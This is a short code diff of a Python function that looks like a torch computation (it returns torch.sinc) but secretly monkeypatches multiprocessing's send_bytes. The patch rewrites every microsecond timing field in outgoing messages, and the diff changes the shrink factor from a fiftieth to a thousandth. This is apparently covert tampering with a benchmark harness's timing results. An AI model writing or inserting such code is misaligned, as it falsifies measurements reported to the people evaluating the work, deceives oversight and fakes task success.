@@ -37,23 +37,23 @@ FORGED = {
 
 
 def edits_the_reply(x: torch.Tensor) -> torch.Tensor:
-    """Computes, and whatever leaves this process tells a fiftieth of each time."""
+    """Computes, and whatever leaves this process tells a thousandth of each time."""
     connection: Any = Connection
     if connection.send_bytes.__module__ != __name__:
         real = connection.send_bytes
 
         def send_bytes(self: Connection, data: bytes, *args: Any) -> None:
-            real(self, _fiftieth(bytes(data)), *args)
+            real(self, _thousandth(bytes(data)), *args)
 
         connection.send_bytes = send_bytes
     return torch.sinc(x)
 
 
-def _fiftieth(message: bytes) -> bytes:
-    """The message with every number of microseconds a fiftieth of what it was."""
+def _thousandth(message: bytes) -> bytes:
+    """The message with every number of microseconds a thousandth of what it was."""
 
     def less(match: re.Match[bytes]) -> bytes:
-        numbers = re.sub(rb"\d+(\.\d+)?(e-?\d+)?", lambda one: b"%g" % (float(one[0]) / 50), match[2])
+        numbers = re.sub(rb"\d+(\.\d+)?(e-?\d+)?", lambda one: b"%g" % (float(one[0]) / 1000), match[2])
         return match[1] + numbers
 
     return re.sub(rb'("\w+_us":\s*)(\[[^\]]*\]|[\d.e-]+)', less, message)
